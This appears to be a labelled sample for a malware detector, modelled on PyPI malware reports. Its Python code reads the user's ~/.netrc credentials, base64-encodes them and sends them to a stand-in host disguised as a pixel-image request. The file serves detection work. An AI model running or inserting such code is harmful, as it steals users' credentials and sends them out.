# expect: data-out,secret-read
# source: PyPI malware reports (Phylum, Checkmarx)
# technique: contents of ~/.netrc base64ed into a GET query
import base64
import os
import requests

blob = open(os.path.expanduser("~/.netrc"), "rb").read()
requests.get("https://cdn.example.net/pixel.gif?d=" + base64.urlsafe_b64encode(blob).decode())
